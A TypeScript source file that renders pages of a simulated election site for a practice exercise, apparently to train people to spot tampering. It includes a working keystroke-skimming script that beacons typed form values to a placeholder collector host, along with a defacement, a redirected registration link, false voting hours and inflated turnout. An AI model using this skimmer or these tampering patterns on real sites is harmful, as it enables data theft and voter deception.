// The pages of a practice site: real enough to be learned and watched. Figures, news and a list of links move by
// themselves, as on any site of an election; everything else stays until somebody breaks or edits it.
import { SECOND, type Time, toMs } from '../../core/time.ts'

/** A link of a page: words, and path on the site. */
export interface PracticeLink {
  readonly words: string
  readonly path: string
}

/** What stands on the page of a site that voters use. */
export interface PracticeContent {
  /** When people vote, in one text; and what somebody who broke in says instead. */
  readonly hours: string
  readonly wrongHours: string
  /** Where and by which telephone to ask. */
  readonly contact: readonly string[]
  /** By which voters register or find their station; the first is the one that is led away. */
  readonly links: readonly [PracticeLink, ...PracticeLink[]]
  /** What somebody who broke in says of the vote. */
  readonly notice: string
  /** Headlines and own links that take turns, a few at a time; more of them than one learning sees. */
  readonly news: readonly string[]
  readonly more: readonly PracticeLink[]
  /** What an honest editor adds to each. */
  readonly addedNews: string
  readonly addedLink: PracticeLink
}

/** A site that the node plays. */
export interface PracticeSite {
  /** Below `.invalid`, so that it can never be a real one. */
  readonly host: string
  readonly title: string
  readonly paragraphs: readonly string[]
  /** Without it the page has its paragraphs alone. */
  readonly content?: PracticeContent
}

/** What may be wrong with the page of a practice site, and what an honest editor does to it. */
export type PageChange =
  | 'deface'
  | 'change-hours'
  | 'postpone'
  | 'skim'
  | 'lead-away'
  | 'edit-figures'
  | 'add-news'
  | 'new-build'
  | 'add-link'

/** What was done to the page. */
type Changed = (change: PageChange) => boolean

/** Where what people type is copied to, and where a link leads that was turned away. */
const COLLECTOR = 'https://collect-practica.invalid/k'
const AWAY = 'https://register-practica-voters.invalid/'

/** Names of files as a build gives them, before and after an honest new one. */
const BUILDS = { old: ['8d3e21f0', '4f1c09ab'], new: ['b07c94e2', 'c25d81f6'] } as const

/** Lists that take turns: how many of each are shown, and how long one stays at the top. */
const SHOWN = 3
const TURN_MS = 4 * SECOND

/** Voters that are counted each second, and how many an honest editor adds at once. */
const VOTERS_PER_SECOND = 17
const VOTERS_ADDED = 25_000

/** Practice sites say on every page what they are. */
const NOTE = 'Exercise: this site is played by Scrutineer. تمرين: هذا الموقع يشغّله البرنامج نفسه.'

/** The page as it is at a moment. */
export function homePage(site: PracticeSite, changed: Changed, at: Time): string {
  const { title, paragraphs, content } = site
  if (changed('deface')) return defacedPage(site)
  const about = paragraphs.map((words) => `<p>${escaped(words)}</p>`).join('\n')
  if (content === undefined) return page(title, `<h1>${escaped(title)}</h1>\n${about}\n`)
  const [script, style] = changed('new-build') ? BUILDS.new : BUILDS.old
  const head = `<link rel="stylesheet" href="/static/site.${style}.css"><script src="/static/app.${script}.js" defer></script>`
  const skimmer = changed('skim') ? SKIMMER : ''
  return page(
    title,
    `<header><h1>${escaped(title)}</h1>${linksPart(content, changed)}</header>
<main id="content">
${changed('postpone') ? `<p id="notice">${escaped(content.notice)}</p>\n` : ''}${whenPart(content, changed, at)}
<section id="about"><h2>About this service</h2>
${about}</section>
<section id="ask"><h2>Where to ask</h2>
${content.contact.map((words) => `<p>${escaped(words)}</p>`).join('\n')}</section>
${FORM}
${listsPart(content, changed, at)}
</main>
<footer><p>Last updated: ${stamp(at)}</p></footer>${skimmer}`,
    head,
  )
}

function linksPart({ links }: PracticeContent, changed: Changed): string {
  const items = links.map(({ words, path }, n) => {
    const target = n === 0 && changed('lead-away') ? AWAY : path
    return `<li><a href="${escaped(target)}">${escaped(words)}</a></li>`
  })
  return `<nav><ul>${items.join('')}</ul></nav>`
}

/** When people vote, and how many did. */
function whenPart({ hours, wrongHours }: PracticeContent, changed: Changed, at: Time): string {
  const seconds = Math.floor((toMs(at) / SECOND) % 86_400)
  const voters = seconds * VOTERS_PER_SECOND + (changed('edit-figures') ? VOTERS_ADDED : 0)
  const words = changed('change-hours') ? wrongHours : hours
  return `<section id="when"><h2>When to vote</h2>
<p>${escaped(words)}</p>
<p>Turnout so far: ${voters.toLocaleString('en')}</p></section>`
}

/** News and links of the site, some of which take the place of others all the time. */
function listsPart(content: PracticeContent, changed: Changed, at: Time): string {
  const turn = Math.floor(toMs(at) / TURN_MS)
  const news = [...(changed('add-news') ? [content.addedNews] : []), ...inTurn(content.news, turn)]
  const more = [...(changed('add-link') ? [content.addedLink] : []), ...inTurn(content.more, turn)]
  const links = more.map(
    ({ words, path }) => `<li><a href="${escaped(path)}">${escaped(words)}</a></li>`,
  )
  return `<section id="news"><h2>News</h2><ul>${news.map((one) => `<li>${escaped(one)}</li>`).join('')}</ul></section>
<section id="more"><h2>More on this site</h2><ul>${links.join('')}</ul></section>`
}

function inTurn<T>(all: readonly T[], turn: number): T[] {
  const count = Math.min(SHOWN, all.length)
  return Array.from({ length: count }, (_, n) => all[(turn + n) % all.length] as T)
}

const FORM =
  '<form action="/find" role="search"><label>Name of your street <input name="street"></label><button>Find your station</button></form>'

/** What somebody who broke in adds: it sends each letter that is typed to a host of his. */
const SKIMMER = `<script>document.addEventListener("input",function(e){navigator.sendBeacon("${COLLECTOR}",e.target.name+"="+e.target.value)})</script>`

function stamp(at: Time): string {
  return `${at.slice(0, 10)} ${at.slice(11, 19)} UTC`
}

function defacedPage({ title }: PracticeSite): string {
  const cry = 'Hacked by the exercise team'
  return page(
    cry,
    `<h1>${cry}</h1>\n<div><marquee>${escaped(title)}: nothing here is true.</marquee></div>`,
  )
}

export function missingPage({ title }: PracticeSite): string {
  return page(title, '<h1>There is no such page.</h1>')
}

function page(title: string, body: string, head = ''): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${escaped(title)}</title>${head}</head>
<body>${body}<p>${NOTE}</p></body></html>
`
}

function escaped(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
}
